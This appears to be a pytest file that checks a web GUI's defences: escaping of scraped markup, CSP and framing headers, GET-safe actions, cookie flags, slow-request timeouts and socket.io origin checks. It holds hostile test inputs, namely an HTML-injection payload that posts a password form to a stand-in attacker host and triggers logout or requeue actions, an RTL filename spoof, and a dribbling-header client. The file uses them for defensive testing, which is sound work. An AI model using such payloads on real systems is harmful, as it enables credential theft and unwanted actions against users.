"""The GUI's defences (docs/security.md): hostile text shown as text (real Chromium: a
scraped value with U+2028 and a Markdown fence that used to close `ui.code`'s block and
become HTML), no state change on GET, the headers on every answer (CSP, no framing:
a page on another port cannot frame the node page), `/health/ready` saying only ready or not,
the `Secure` cookie setting, a deadline on a request's head, socket.io answering only the
GUI's own origin."""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.gui_browser import child_env, chromium, free_port, have_browser, page_text, serving, sign_in, wait_text
from tests.gui_fixtures import FROM_THE_GUI, PASSWORDS, gui_home, gui_process, make_home, user  # noqa: F401
from tests.gui_fixtures import sign_in as sign_in_user

pytestmark = pytest.mark.timeout(300)
BROWSER = pytest.mark.needs(have_browser(), "no chromium + chromium-driver (Debian packages; `make deps` installs them)")

#: a hostile payload: a line separator and a fence end `ui.code`'s Markdown block; what
#: follows was HTML (a sign-out, a requeue of every failed ingest, a form posting elsewhere, a style)
LS = "\u2028"
PAYLOAD = (f"x{LS}```{LS}<img id=injected-a src=/logout><img id=injected-b src='/rq/requeue/ingest'>"
           "<form id=injected-c action='http://evil.example/login' method=post><input name=password></form>"
           f"<style id=injected-d>body{{display:none}}</style>{LS}```{LS}y")
#: a title that reverses its end on screen (U+202E RIGHT-TO-LEFT OVERRIDE)
SPOOF = "report\u202egpj.exe"
NODE = "ab" * 32
INJECTED = ("return [...document.querySelectorAll('[id^=injected], img[src$=\"/logout\"], img[src*=requeue], "
            "form[action*=evil]')].map(e => e.outerHTML)")


def _insert_node(conn) -> None:
    conn.execute("INSERT INTO source (name) VALUES ('gallery') ON CONFLICT DO NOTHING")
    node_id = conn.execute("INSERT INTO node (sha256, is_virtual, is_physical, created_at) "
                           "VALUES (decode(%s, 'hex'), false, true, now()) RETURNING node_id", [NODE]).fetchone()[0]
    conn.execute("INSERT INTO physical_content (node_id, size, file_type) VALUES (%s, 10, 'json')", [node_id])
    conn.execute("INSERT INTO common_metadata (node_id, source_id, title, author, raw_metadata) "
                 "SELECT %s, source_id, %s, 'a', %s FROM source WHERE name = 'gallery'",
                 [node_id, SPOOF, json.dumps({"description": PAYLOAD, PAYLOAD: 1})])
    conn.commit()


def _failed_job(redis_conn, queue: str, job_id: str, exc_string: str):
    """A job of `queue` in its failed registry, its last result the failure `exc_string`."""
    from rq import Queue
    from rq.job import Job, JobStatus
    from rq.results import Result

    job = Job.create("builtins.print", id=job_id, connection=redis_conn, origin=queue, meta={"kind": "verify"})
    job.save()
    job.set_status(JobStatus.FAILED)
    Result.create_failure(job, 3600, exc_string)
    Queue(queue, connection=redis_conn).failed_job_registry.add(job, exc_string=exc_string)
    return job


@contextlib.contextmanager
def _other_origin(html: str) -> Iterator[str]:
    """Another site's page (another port of this host) serving `html`."""
    body = html.encode()

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # http.server's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def served(hoard_home: Path, pg, redis_conn):
    """`hoard gui` on a free port, the hostile node in its database."""
    with gui_process(hoard_home, pg, lambda cfg_path: _insert_node(pg), refresh_s=2.0) as (url, _):
        yield url


def _csp_reports(driver) -> list[str]:
    return [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]


@BROWSER
def test_scraped_markup_stays_text_in_chromium(served, redis_conn) -> None:
    """The node page's raw metadata and the run page's traceback hold the U+2028 payload: no
    element of it is in the DOM, the separators show as `\\u2028`, the RTL override as
    `\\u202e`; the viewer stays signed in, the failed ingest job stays failed; the pages run
    under the CSP without a violation."""
    url = served
    ingest_job = _failed_job(redis_conn, "ingest", "ingest-failed-before", "boom")
    run = _failed_job(redis_conn, "maintenance", "maint-verify-hostile", f"Traceback:\n  File \"{PAYLOAD}\"\nOSError")
    with chromium() as d:
        sign_in(d, url, "otto", PASSWORDS["otto"])
        d.get(f"{url}/node/{NODE}")
        wait_text(d, "Metadata")
        time.sleep(1)  # images (had any been made) load
        assert d.execute_script(INJECTED) == []
        shown = d.find_element("css selector", "pre").text
        assert "\\u2028```\\u2028<img id=injected-a src=/logout>" in shown and LS not in shown, shown
        assert "report\\u202egpj.exe" in page_text(d)
        assert not _csp_reports(d)

        d.get(f"{url}/runs/verify/{run.id}")
        wait_text(d, "Traceback (of its last job)")
        time.sleep(1)
        assert d.execute_script(INJECTED) == []
        assert "\\u2028<img id=injected-a src=/logout>" in d.find_element("css selector", "pre").text
        assert not _csp_reports(d)

        d.get(f"{url}/storage")
        wait_text(d, "SSD zones")  # still signed in
        assert "/login" not in d.current_url
    from rq.job import JobStatus

    assert ingest_job.get_status(refresh=True) == JobStatus.FAILED


@BROWSER
def test_every_page_runs_under_the_policy(served) -> None:
    """Each page of the GUI, and rq-dashboard's, works in Chromium under the CSP: it shows
    what it shows, and the browser reports no violation (what NiceGUI, Quasar, Tailwind,
    ECharts and rq-dashboard need is allowed)."""
    url = served
    with chromium() as d:
        sign_in(d, url, "ada", PASSWORDS["ada"])
        for path, text in (("/", "Overview"), ("/storage", "SSD zones"), ("/runs", "runs"), ("/launch", "Maintenance"),
                           ("/batches", "batches"), ("/assets", "assets on page 1"), (f"/node/{NODE}", "Metadata"),
                           ("/pipelines", "Dataset exports"), ("/users", "vera"), ("/rq/", "Queues"),
                           ("/actions", "Contracts"), ("/actions/resize-variants", "Launch resize-variants"),
                           ("/events", "Deliveries")):
            d.get(f"{url}{path}")
            wait_text(d, text)
            time.sleep(0.5)  # charts, fonts, the first refresh
            assert not _csp_reports(d), (path, _csp_reports(d))


@BROWSER
def test_another_origin_cannot_frame_the_gui(served) -> None:
    """A page on another port of the same host (same site: the Lax cookie goes along) frames the
    node page: Chromium refuses to show it (frame-ancestors 'none', X-Frame-Options: DENY)."""
    url = served
    with chromium() as d:
        sign_in(d, url, "vera", PASSWORDS["vera"])
        with _other_origin(f'<p>look</p><iframe id="f" src="{url}/node/{NODE}" width=800 height=600></iframe>') as evil:
            d.get(evil)
            time.sleep(3)
            d.switch_to.frame(d.find_element("id", "f"))
            inside = page_text(d)
            where = d.execute_script("return location.href")
            d.switch_to.default_content()
        assert "Metadata" not in inside and "Sign in" not in inside, inside
        assert not where.startswith(url), where
        assert any("frame-ancestors" in m for m in _csp_reports(d)), d.get_log("browser")


async def test_state_changes_refuse_get(user, redis_conn) -> None:
    """What an `<img>` or a link makes — a GET, same-origin — acts nowhere: `/logout` and
    rq-dashboard's actions (its `/requeue/<queue>` requeued every failed job on GET) answer 405."""
    job = _failed_job(redis_conn, "ingest", "failed-before-get", "boom")
    await sign_in_user(user, "otto")
    for path in ("/logout", "/rq/requeue/ingest", "/rq/job/failed-before-get/requeue", "/rq/job/failed-before-get/delete",
                 "/rq/queue/ingest/failed/empty", "/rq/queue/ingest/compact"):
        r = await user.http_client.get(path, headers=FROM_THE_GUI, follow_redirects=False)
        assert r.status_code == 405, (path, r.status_code, r.text)
    from rq.job import JobStatus

    assert job.get_status(refresh=True) == JobStatus.FAILED
    assert (await user.http_client.get("/storage", follow_redirects=False)).status_code == 200  # still signed in
    r = await user.http_client.post("/rq/requeue/ingest", headers=FROM_THE_GUI)  # the dashboard's own button
    assert r.status_code == 200 and job.get_status(refresh=True) != JobStatus.FAILED


def _script_tags(html: str) -> list[str]:
    return re.findall(r"<script\b[^>]*>", html, re.IGNORECASE)


@pytest.mark.expect_log(r"http://test/no/such/thing not found", level="WARNING")
async def test_every_answer_carries_the_headers(user) -> None:
    """Every page, the login redirect, a refusal, a 404, the probes, NiceGUI's static files and
    rq-dashboard's pages: each has the CSP (nonce scripts, no inline script otherwise, no
    framing, images from this origin only) and X-Frame-Options: DENY; every `<script>` of an
    HTML answer has that answer's nonce."""
    client = user.http_client
    answers = {"redirect": await client.get("/storage", follow_redirects=False),
               "login": await client.get("/login"),
               "live": await client.get("/health/live"),
               "metrics 401": await client.get("/metrics")}
    await sign_in_user(user, "otto")
    for path in ("/", "/runs", "/runs?view=failed", "/launch", "/batches", "/assets", "/pipelines", "/users", "/actions",
                 "/actions/thumbnail", "/events"):
        answers[path] = await client.get(path)
        assert answers[path].status_code == 200, path
    answers |= {"page": await client.get("/storage"), "node": await client.get(f"/node/{NODE}"),
                "404": await client.get("/no/such/thing"),
                "405": await client.get("/logout", headers=FROM_THE_GUI),
                "refused": await client.post("/rq/queue/ingest/failed/empty", headers={"Sec-Fetch-Site": "cross-site"}),
                "rq": await client.get("/rq/"), "rq json": await client.get("/rq/0/data/queues.json"),
                "rq static": await client.get("/rq/static/js/jquery-3.5.1.min.js")}
    page = answers["page"].text
    static = re.search(r'src="(/_nicegui/[^"]+\.js)"', page)
    assert static, page[:2000]
    answers["nicegui static"] = await client.get(static.group(1))
    for what, r in answers.items():
        csp = r.headers.get("content-security-policy", "")
        assert r.headers.get("x-frame-options") == "DENY", what
        assert "frame-ancestors 'none'" in csp and "img-src 'self' data:;" in csp, (what, csp)
        script_src = re.search(r"script-src ([^;]*)", csp).group(1)
        assert "'unsafe-inline'" not in script_src and "'nonce-" in script_src, (what, csp)
        if r.headers.get("content-type", "").startswith("text/html"):
            nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
            tags = _script_tags(r.text)
            assert tags and all(f'nonce="{nonce}"' in t for t in tags), (what, tags)
    assert answers["rq"].status_code == 200 and answers["page"].status_code == 200
    other = (await client.get("/storage")).headers["content-security-policy"]
    assert other != answers["page"].headers["content-security-policy"]  # a fresh nonce per answer


async def test_ready_says_only_ready_or_not(user, gui_home: Path) -> None:
    """`/health/ready` without a login: `{"ready": …}` only — 503 while `hoard health` finds
    something wrong (a fresh home: no backup yet), 200 once nothing is; the document (paths,
    errors) is `/api/health`'s, behind the login."""
    from nicegui import run

    from hoardfs.gui.context import ctx

    await run.io_bound(ctx().cache.refresh)
    assert not ctx().cache.snapshot.health["ok"]
    r = await user.http_client.get("/health/ready")
    assert r.status_code == 503 and r.json() == {"ready": False}, r.text
    r = await user.http_client.get("/api/health")
    assert r.status_code == 401
    await sign_in_user(user, "vera")
    r = await user.http_client.get("/api/health")
    assert r.status_code == 200 and not r.json()["ok"], r.text
    assert any("no backup was ever taken" in p for p in r.json()["problems"]), r.text
    res = await run.io_bound(subprocess.run, [sys.executable, "-m", "hoardfs", "--config", str(gui_home), "db", "backup"],
                             capture_output=True, text=True, env=child_env(), timeout=120)
    assert res.returncode == 0, res.stderr
    await run.io_bound(ctx().cache.refresh)
    assert ctx().cache.snapshot.health["ok"], ctx().cache.snapshot.health["problems"]
    user.http_client.cookies.clear()  # signed out: the probe's view
    r = await user.http_client.get("/health/ready")
    assert r.status_code == 200 and r.json() == {"ready": True}, r.text


def test_secure_cookies_behind_tls(hoard_home: Path, pg) -> None:
    """`gui.secure_cookies = true` (a TLS proxy in front): the session cookie and the device
    cookie are Secure; by default (the plain-HTTP listener) they are not, or they would never
    come back."""
    port = free_port()
    cfg_path = make_home(hoard_home, pg, port=port)  # its [gui] table last
    base = cfg_path.read_text()
    for secure in (False, True):
        cfg_path.write_text(base + ("secure_cookies = true\n" if secure else ""))
        with serving(cfg_path, hoard_home / "gui.log", port) as url:
            try:
                with urllib.request.urlopen(f"{url}/login", timeout=10) as r:
                    cookies = r.headers.get_all("set-cookie") or []
            except urllib.error.HTTPError as e:
                raise AssertionError(e.read()) from None
            basic = urllib.request.Request(f"{url}/metrics", headers={
                "Authorization": "Basic " + base64.b64encode(f"vera:{PASSWORDS['vera']}".encode()).decode()})
            with urllib.request.urlopen(basic, timeout=120) as r:  # a sign-in: the device cookie
                device = [c for c in r.headers.get_all("set-cookie") or [] if c.startswith("hoard_device=")]
        session = [c for c in cookies if c.startswith("session=")]
        assert session, cookies
        assert ("; secure" in session[0].lower()) == secure, session
        assert "httponly" in session[0].lower() and "samesite=lax" in session[0].lower()
        assert device and ("; secure" in device[0].lower()) == secure, device
        assert "httponly" in device[0].lower() and "samesite=strict" in device[0].lower()


def test_charts_never_make_markup_of_names() -> None:
    """Every chart's tooltip is off or drawn on the canvas (ECharts' default tooltip is HTML):
    a source, disk or relative named with markup is never parsed; a relative's name has its
    hidden characters written out."""
    from datetime import date

    from hoardfs.gui import charts

    evil = "<img src=/logout>\u202e"
    options = [charts.disk_usage([{"label": evil, "used_bytes": 1, "free_bytes": 2}]),
               charts.zone_usage({"3A": {"used_ratio": 0.5}}, (0.8, 0.9, 0.95)),
               charts.ingested_per_day([{"day": date(2026, 1, 1), "source": evil, "items": 3}]),
               charts.disk_history([]), charts.zone_history([], (0.8, 0.9, 0.95)),
               charts.lineage({"node_id": 1, "children": [], "parents": [
                   {"node_id": 2, "via": 1, "depth": 1, "rel": evil, "is_virtual": True, "virtual_kind": "post",
                    "stable_id": evil, "sha256": "ab" * 32, "file_type": None}]})]
    for o in options:
        assert o["tooltip"] == {"show": False} or o["tooltip"]["renderMode"] == "richText", o["tooltip"]
    graph = options[-1]["series"][0]
    assert "\\u202e" in graph["data"][1]["name"] and "\u202e" not in json.dumps(graph, ensure_ascii=False)


def _read_until_closed(sock: socket.socket, feed: bytes | None, every_s: float, limit_s: float) -> tuple[bytes, float]:
    """What the server sent on `sock` until it closed it, and after how long; sending `feed`
    whenever `every_s` passes with nothing from the server (a client dribbling its head). Fails
    when the connection is still open after `limit_s`."""
    start, got = time.monotonic(), b""
    sock.settimeout(every_s)
    while time.monotonic() - start < limit_s:
        try:
            chunk = sock.recv(4096)
        except TimeoutError:
            if feed is not None:
                sock.sendall(feed)
            continue
        except ConnectionResetError:
            return got, time.monotonic() - start
        if not chunk:
            return got, time.monotonic() - start
        got += chunk
    raise AssertionError(f"the connection is still open after {limit_s} s (sent a header line every {every_s} s)")


def test_a_request_head_that_does_not_arrive_in_time_is_closed(hoard_home: Path, pg, redis_conn) -> None:
    """`gui.header_timeout_s` (2 s here): a connection that dribbles its request's head one
    header line a second, or sends nothing, is answered 408 and closed once the deadline has
    passed (it stayed open indefinitely); a request sent at once is answered, and so is a second
    one on the same kept-alive connection after an idle pause longer than the deadline."""
    with gui_process(hoard_home, pg, header_timeout_s=2) as (url, _):
        port = int(url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port)) as sock:
            sock.sendall(b"GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            got, after = _read_until_closed(sock, b"X-Dribble: one line a second\r\n", 1.0, 30)
        assert 1.9 <= after, after
        assert not got or got.startswith(b"HTTP/1.1 408"), got
        with socket.create_connection(("127.0.0.1", port)) as sock:  # says nothing at all
            got, after = _read_until_closed(sock, None, 1.0, 30)
        assert got.startswith(b"HTTP/1.1 408 Request Timeout") and b"gui.header_timeout_s" in got, got
        assert 1.9 <= after, after
        import http.client

        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            for pause in (0, 3):  # 3 s idle between requests: past the head's deadline, within keep-alive (5 s)
                time.sleep(pause)
                conn.request("GET", "/health/live")
                r = conn.getresponse()
                assert r.status == 200 and json.loads(r.read()) == {"ok": True}
        finally:
            conn.close()


def _engine_io(url: str, origin: str, transport: str = "polling") -> tuple[int, str, dict[str, str]]:
    """(status, body, headers) of an Engine.IO handshake — what NiceGUI's socket.io client opens
    first — from a page of `origin`."""
    req = urllib.request.Request(f"{url}/_nicegui_ws/socket.io/?EIO=4&transport={transport}&t={uuid.uuid4().hex[:7]}",
                                 headers={"Origin": origin})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read().decode(), {k.lower(): v for k, v in r.headers.items()}
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode(), {k.lower(): v for k, v in e.headers.items()}


def _websocket_status(port: int, origin: str) -> bytes:
    """The status line the GUI answers a websocket upgrade of socket.io from a page of `origin` with."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall((f"GET /_nicegui_ws/socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                      f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(b'x' * 16).decode()}"
                      f"\r\nSec-WebSocket-Version: 13\r\nOrigin: {origin}\r\n\r\n").encode())
        head = b""
        while b"\r\n" not in head and (chunk := sock.recv(4096)):
            head += chunk
        return head.split(b"\r\n", 1)[0]


@pytest.mark.expect_log(r"^http://evil\.example is not an accepted origin", level="ERROR")  # python-engineio's, once
def test_socket_io_answers_only_the_guis_own_origin(hoard_home: Path, pg, redis_conn) -> None:
    """An Engine.IO handshake from a page of another origin — another site, or another port of
    this host (the same site: the session cookie goes along) — is refused (400) with no
    Access-Control-Allow-Origin, by polling and by websocket; one from the GUI's own origin gets
    its session and the header naming that origin alone (it answered any Origin, credentials
    allowed)."""
    with gui_process(hoard_home, pg) as (url, _):
        port = int(url.rsplit(":", 1)[1])
        for origin in ("http://evil.example", f"http://127.0.0.1:{port + 1}", f"https://127.0.0.1:{port}"):
            status, body, headers = _engine_io(url, origin)
            assert status == 400 and "access-control-allow-origin" not in headers, (origin, status, headers)
            assert _websocket_status(port, origin).split()[1] != b"101", origin
        status, body, headers = _engine_io(url, url)
        assert status == 200 and body.startswith("0{") and '"sid"' in body, (status, body)
        assert headers.get("access-control-allow-origin") == url, headers
        assert _websocket_status(port, url).split()[1] == b"101"
